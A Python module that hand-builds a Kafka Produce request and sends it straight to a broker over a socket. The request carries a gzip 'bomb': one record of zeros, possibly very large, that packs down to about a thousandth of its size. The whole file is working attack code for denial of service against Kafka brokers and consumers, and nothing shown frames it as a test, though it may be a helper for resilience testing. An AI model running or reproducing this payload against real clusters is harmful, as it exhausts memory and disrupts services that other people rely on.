"""Writes one batch of zeros to a partition as Kafka's protocol has it, in the memory of its packed form only.

A client library needs the whole record to pack it: it cannot write what an attacker writes.
"""

from __future__ import annotations

import socket
import struct
import zlib
from collections.abc import Iterator

import google_crc32c

_GZIP = 1
_CHUNK = bytes(1 << 20)
_ANSWER_SECONDS = 60.0
_CORRELATION = 1
_MAGIC = 2
_PRODUCE, _PRODUCE_VERSION = 0, 3


def write_gzip_bomb(bootstrap: str, topic: str, *, size: int) -> int:
    """Write a record of zeros to partition 0 and return the bytes of its batch.

    Args:
        bootstrap: ``host:port`` of a listener without TLS of the partition's leader.
        topic: The topic.
        size: Bytes of the record; packed it has a thousandth of them.
    """
    batch = _batch(_packed(size))
    host, _, port = bootstrap.partition(":")
    with socket.create_connection((host, int(port)), timeout=_ANSWER_SECONDS) as connection:
        connection.sendall(_request(topic, batch))
        answer = _exactly(connection, struct.unpack(">i", _exactly(connection, 4))[0])
    # After the correlation id and the lengths of two lists: the topic, the partition, then the error.
    error = struct.unpack_from(">h", answer, 4 + 4 + 2 + len(topic) + 4 + 4)[0]
    if error:
        message = f"the broker refused the batch with error {error}"
        raise OSError(message)
    return len(batch)


def _packed(size: int) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    return b"".join(packer.compress(part) for part in _record(size)) + packer.flush()


def _record(size: int) -> Iterator[bytes]:
    # Attributes, time, offset, no key; then the value, and no header.
    before, after = b"\x00\x00\x00" + _varint(-1) + _varint(size), _varint(0)
    yield _varint(len(before) + size + len(after)) + before
    for at in range(0, size, len(_CHUNK)):
        yield _CHUNK[: size - at]
    yield after


def _batch(records: bytes) -> bytes:
    # Attributes, last offset, two times, producer id, epoch and sequence, number of records.
    covered = struct.pack(">hiqqqhii", _GZIP, 0, 0, 0, -1, -1, -1, 1) + records
    checked = struct.pack(">ibI", 0, _MAGIC, google_crc32c.value(covered)) + covered
    return struct.pack(">qi", 0, len(checked)) + checked


def _request(topic: str, batch: bytes) -> bytes:
    name = struct.pack(">h", len(topic)) + topic.encode()
    body = struct.pack(">hhih", _PRODUCE, _PRODUCE_VERSION, _CORRELATION, -1)
    # No transaction, all replicas, a limit; one topic with one partition.
    body += struct.pack(">hhi", -1, -1, 30_000) + struct.pack(">i", 1) + name + struct.pack(">ii", 1, 0)
    body += struct.pack(">i", len(batch)) + batch
    return struct.pack(">i", len(body)) + body


def _varint(number: int) -> bytes:
    zigzag = number << 1 if number >= 0 else (-number << 1) - 1
    out = bytearray()
    while zigzag > 0x7F:
        out.append(zigzag & 0x7F | 0x80)
        zigzag >>= 7
    return bytes([*out, zigzag])


def _exactly(connection: socket.socket, count: int) -> bytes:
    parts = bytearray()
    while len(parts) < count:
        part = connection.recv(count - len(parts))
        if not part:
            message = "the broker closed the connection"
            raise OSError(message)
        parts += part
    return bytes(parts)
